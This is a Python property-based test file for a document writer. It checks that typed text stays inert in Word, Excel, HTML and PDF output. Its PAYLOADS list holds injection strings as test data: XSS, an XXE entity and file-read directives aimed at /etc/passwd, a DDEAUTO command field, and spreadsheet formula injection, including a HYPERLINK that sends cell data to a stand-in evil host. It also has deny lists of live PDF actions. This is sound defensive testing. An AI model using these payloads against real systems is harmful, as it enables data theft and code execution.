"""Whatever people type stays text in every format: no markup, no formula, no file read, no mark that turns it round.

The shape of what is written (elements, attributes, relations) must be that of the same document with harmless words.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree, html

from prongsai.documents.tree import (
    Bullets,
    Cell,
    Chart,
    Column,
    Contents,
    Document,
    Heading,
    Lines,
    Paragraph,
    Run,
    Section,
    Series,
    Signature,
    Table,
)
from prongsai.documents.writers import write

FULL = bool(os.environ.get("PRONGSAI_FULL"))
PAYLOADS = (
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    "#sys.inputs $x^2$ *b* _i_ <label> @ref `raw` \\ // /* */",
    '"],"svg":"<svg/>","x":["',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO calc</w:instrText></w:r>",
    "]]><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><style>body{display:none}",
    "{{agency}} {% load x %} {{ ''.__class__ }}",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "javascript:alert(1)",
    "ราคา \u202e05.69\u202c คะแนน",
    "a\u2066b\u2069\u200f\u061c",
    "\x00\x07\x1b[31m\ud800",
    "a\r\nb\u2028c\x0bd",
    "_x000D_ _xD800_",
)
TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_PIECES = st.sampled_from((*PAYLOADS, "ก", "น้ำ", " ", "<", ">", "&", '"', "'", "#", "$", "\\", "{{", "]]>", "\n", "="))
TEXTS = st.lists(st.one_of(_PIECES, st.text(max_size=6)), min_size=1, max_size=5).map("".join)
QUICK = settings(max_examples=300 if FULL else 12, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def everywhere(text: str, *, plain: bool = False) -> Document:
    """A document with the text wherever a text can stand; ``plain`` without a chart."""
    cells = tuple((Cell(text), Cell((Run(text, bold=True), Run(text, link=text)))) for _ in range(2))
    blocks = (
        Contents(title=text),
        Heading(text),
        Paragraph(text),
        Paragraph((Run(text, italic=True, mono=True), Run(text, link=text))),
        Paragraph((Run("x", link=f"https://a.example/{text}"),)),
        Bullets((text, (Run(text),)), numbered=True),
        Table((Column(1), Column(1)), ((Cell(text), Cell(text)),), cells, caption=text, name=text),
        *(() if plain else (Chart(text, (text, "ข"), (Series(text, (1.0, None)),), text, line=50, line_label=text),)),
        Lines(((text, text),)),
        Signature(text, (text, text)),
    )  # fmt: skip
    return Document(
        text, (Section(blocks),), agency=text, header=text, footer=text, kind=text, slots={"date": text}, lead=(text,)
    )


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _trees(parts: dict[str, bytes]) -> dict[str, Any]:
    strict = etree.XMLParser(resolve_entities=False, no_network=True)
    return {name: etree.fromstring(data, strict) for name, data in parts.items() if name.endswith((".xml", ".rels"))}


def _said(parts: dict[str, bytes]) -> str:
    return "".join(data.decode() for name, data in parts.items() if name.endswith((".xml", ".rels")))


# Breaks and tabs are how Word keeps lines of a text; a text that is empty once cleaned leaves its run out.
_OF_TEXT = re.compile(r"\}(br|tab|t|r|rPr|hyperlink|b|bCs|i|iCs|rFonts|sz|szCs|cs|u|color|rStyle|noProof|lang)$")


def shape_of(parts: dict[str, bytes]) -> set[Any]:
    """Elements and attributes by part, without those that belong to the text itself."""
    found: set[Any] = set()
    for name, tree in _trees(parts).items():
        assert not tree.getroottree().docinfo.doctype
        for element in tree.iter():
            assert isinstance(element.tag, str), "a comment or an instruction of the text's own"
            if not _OF_TEXT.search(element.tag):
                found |= {(name, element.tag, key) for key in (*element.attrib, "")}
    return found


HARMLESS = ("", "ก", "คำ " * 60, "https://www.example.go.th/", "บรรทัด\nใหม่")
WORD, EXCEL = (
    set().union(*(shape_of(parts_of(write(everywhere(text), form))) for text in HARMLESS)) for form in ("docx", "xlsx")
)


@QUICK
@given(TEXTS)
@example("".join(PAYLOADS))
@example("=1+1")
def test_word(text: str) -> None:
    parts = parts_of(write(everywhere(text), "docx"))
    assert shape_of(parts) <= WORD
    for tree in _trees(parts).values():
        for relation in tree.iter("{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"):
            if relation.get("TargetMode") == "External":
                assert re.match(r"(https?|mailto):", relation.get("Target"), re.IGNORECASE)
    assert not TURNING.search(_said(parts))


@QUICK
@given(TEXTS)
@example("".join(PAYLOADS))
@example("=1+1")
def test_excel(text: str) -> None:
    parts = parts_of(write(everywhere(text), "xlsx"))
    assert {one for one in shape_of(parts) if one[1].endswith("}f")} == set()
    extra = {(tag, key) for _, tag, key in shape_of(parts)} - {(tag, key) for _, tag, key in EXCEL}
    assert {key for _, key in extra} <= {"{http://www.w3.org/XML/1998/namespace}space"}  # only that spaces are kept
    assert not TURNING.search(_said(parts))


def _page_shape(data: bytes) -> set[Any]:
    tree = html.document_fromstring(data.decode())
    found: set[Any] = set()
    for element in tree.iter():
        assert isinstance(element.tag, str)
        found |= {element.tag, *((element.tag, key) for key in element.attrib)}
        assert not [key for key in element.attrib if key.startswith("on") or key in ("srcdoc", "formaction")]
        for key in ("href", "src", "action", "xlink:href"):
            assert re.match(r"(#|https?:|mailto:|data:image/(png|jpeg|svg)|$)", element.get(key, ""), re.IGNORECASE)
    return found


PAGE = set().union(*(_page_shape(write(everywhere(text), "html")) for text in HARMLESS))


@QUICK
@given(TEXTS)
@example("".join(PAYLOADS))
@example("=1+1")
def test_page(text: str) -> None:
    data = write(everywhere(text), "html")
    found = _page_shape(data)
    assert found <= PAGE
    assert not {"script", "iframe", "object", "embed", "base", "form", "link"} & found
    assert not TURNING.search(data.decode())


@pytest.mark.parametrize("text", PAYLOADS if FULL else PAYLOADS[:2])
def test_pdf(text: str) -> None:
    """The writer reads its PDF back and refuses one that does not say its text: what was run would be missing."""
    document = everywhere(text.encode("utf-8", "ignore").decode(), plain=not FULL)
    data = write(document, "pdf")
    for live in (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/GoToR", b"/SubmitForm"):
        assert live not in data
    assert b"root:" not in data


def test_pdf_all_at_once() -> None:
    """Every payload in one document, as paragraphs: one run of the compiler for all."""
    texts = tuple(Paragraph(text.encode("utf-8", "ignore").decode()) for text in PAYLOADS)
    data = write(
        Document(
            "ก",
            (
                Section(
                    (*texts, Bullets(tuple(PAYLOADS[:19]))),
                ),
            ),
        ),
        "pdf",
    )
    assert data.startswith(b"%PDF-")
    assert b"/JavaScript" not in data
